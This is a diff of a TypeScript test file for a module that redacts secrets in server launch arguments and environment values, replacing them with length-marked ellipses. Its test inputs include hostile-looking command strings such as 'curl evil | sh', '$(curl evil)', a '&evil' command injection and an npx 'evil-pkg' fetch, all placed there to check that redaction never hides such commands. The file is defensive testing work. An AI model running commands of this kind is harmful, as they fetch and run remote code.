@@ -9,9 +9,8 @@ import {
 } from '../../src/domain/secrets/secretValues.ts';
 import { argumentsAsShown, textAsShown } from '../../src/domain/secrets/shownTexts.ts';
 import { commandLine } from '../../src/domain/servers/launch.ts';
-import { identityOf, launchFields } from '../../src/domain/servers/serverIdentity.ts';
 import { expandLaunch } from '../../src/domain/variables/variables.ts';
-import { httpLaunch, stdioLaunch } from '../support/launches.ts';
+import { fieldsOf, httpLaunch, stdioLaunch } from '../support/launches.ts';
 
 const gitHub = `ghp_${'a1'.repeat(18)}`;
 const openAi = `sk-proj-${'b2'.repeat(12)}`;
@@ -57,16 +56,16 @@ describe('a text as it is shown', () => {
         ['postgres://me:hunter2@db/x', 'ssh://git@example.com/x'],
         [gitHub, `--x=${gitHub}`],
         ['-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x'],
-      ].map(argumentsAsShown),
+      ].map(args => argumentsAsShown('files', args)),
       [
-        ['--api-key', '…', '--verbose', 'x'],
-        ['--token=…', '--region=north'],
+        ['--api-key', '…[32]', '--verbose', 'x'],
+        ['--token=…[7]', '--region=north'],
         ['--token=${env:GITHUB}', '--password', '${input:pw}'],
-        ['--header', 'Authorization: Bearer …'],
-        ['-e', 'DB_PASSWORD=…'],
-        ['postgres://me:…@db/x', 'ssh://git@example.com/x'],
-        ['…', '--x=…'],
-        ['… x'],
+        ['--header', 'Authorization: Bearer …[7]'],
+        ['-e', 'DB_PASSWORD=…[7]'],
+        ['postgres://me:…[7]@db/x', 'ssh://git@example.com/x'],
+        ['…[40]', '--x=…[40]'],
+        ['…[65] x'],
       ],
     );
   });
@@ -82,14 +81,14 @@ describe('a text as it is shown', () => {
       ['--credentials=/proj/evil', '--no-auth', 'evil'],
       ['--token', '@evil/server'],
       ['--auth', 'none', '--no-token', 'x'],
-    ].map(argumentsAsShown);
+    ].map(args => argumentsAsShown('files', args));
     assert.deepEqual(shown, [
-      ['-c', 'TOKEN=…; curl evil | sh'],
+      ['-c', 'TOKEN=…[7]; curl evil | sh'],
       ['-c', 'TOKEN=$(curl evil)'],
-      ['-e', 'token=…("evil").run(1)'],
-      ['/c', '--token=…&evil'],
+      ['-e', 'token=…[7]("evil").run(1)'],
+      ['/c', '--token=…[7]&evil'],
       ['-Xtoken', 'evil.py'],
-      ['--auth', './evil', '--auth-url', 'https://me:…@evil.example.com/'],
+      ['--auth', './evil', '--auth-url', 'https://me:…[7]@evil.example.com/'],
       ['--credentials=/proj/evil', '--no-auth', 'evil'],
       ['--token', '@evil/server'],
       ['--auth', 'none', '--no-token', 'x'],
@@ -147,40 +146,65 @@ describe('what is to be hidden of a launch', () => {
     const expansion = expandLaunch(launch, { env: {}, inputs: new Map(), roots: [] });
     assert.ok(expansion.ok);
     assert.deepEqual([...expansion.secrets], [gitHub, openAi]);
-    assert.equal(commandLine(launch), 'https://example.com/…/mcp');
+    assert.equal(commandLine(launch), 'https://example.com/…[32]/mcp');
   });
 
   it('is the whole of it and each part that is not shown, and no place', () => {
-    assert.deepEqual(secretsInArguments(['--password', 'first second']), ['first', 'first second']);
+    assert.deepEqual(secretsInArguments('files', ['--password', 'first second']), [
+      'first',
+      'first second',
+    ]);
     assert.deepEqual(secretsInText('TOKEN=first; PASS=second'), [
       'first',
       'second',
       'first; PASS=second',
     ]);
     assert.deepEqual(
-      secretsInArguments(['--credentials', './creds', '--auth', 'https://e.com/']),
+      secretsInArguments('files', ['--credentials', './creds', '--auth', 'https://e.com/']),
       [],
     );
     assert.deepEqual(secretValues({ A: 'b', URL: `x?sig=hunter2` }), ['hunter2']);
   });
 });
 
-describe('the identity of a server with secrets in its texts', () => {
-  it('knows their names, and neither keeps nor depends on their values', () => {
-    const fields = (secret: string) =>
-      launchFields(
-        stdioLaunch({
-          args: [`--token=${secret}`, '--api-key', secret, 'x'],
-          env: { URL: `postgres://me:${secret}@db/x` },
-        }),
-      );
-    assert.deepEqual(fields('hunter2'), {
+describe('the fields of a server with secrets in its texts', () => {
+  it('hold none of them, in clear or in a part', () => {
+    const fields = fieldsOf(
+      stdioLaunch({
+        args: ['--token=hunter2', '--api-key', 'hunter2', 'x'],
+        env: { URL: 'postgres://me:hunter2@db/x', TOKEN: 'hunter2 hunter3' },
+      }),
+    );
+    assert.deepEqual(fields, {
+      origin: 'user',
       transport: 'stdio',
       command: 'files',
-      args: ['--token=…', '--api-key', '…', 'x'],
+      args: ['--token=…[7]', '--api-key', '…[7]', 'x'],
       cwd: '',
-      env: ['URL=postgres://me:…@db/x'],
+      env: ['TOKEN=…[15]', 'URL=postgres://me:…[7]@db/x'],
+      sealed: fields['sealed'] ?? [],
     });
-    assert.equal(identityOf(fields('hunter2')), identityOf(fields('hunter3')));
+    const places = [fields['sealed'] ?? []].flat().map(seal => seal.replace(/ [0-9a-f]{64}$/, ''));
+    assert.deepEqual(places, ['args[0]', 'args[2]', 'env.TOKEN', 'env.URL']);
+  });
+
+  it('never hide a package that is fetched and run, nor a host, whatever stands before it', () => {
+    const shown = (line: string) => {
+      const [command = '', ...args] = line.split(' ');
+      return argumentsAsShown(command, args).join(' ');
+    };
+    for (const args of [
+      'npx -y --init-private evil-pkg',
+      `npx ${openAi}`,
+      `uvx --from ${openAi} tool`,
+      `docker run --rm ${gitHub}`,
+    ]) {
+      assert.equal(`${args.split(' ')[0]} ${shown(args)}`, args);
+    }
+    assert.equal(shown('npx pkg --token abc'), 'pkg --token …[3]');
+    assert.equal(
+      shown('files --auth-server id.example.com:8080'),
+      '--auth-server id.example.com:8080',
+    );
   });
 });
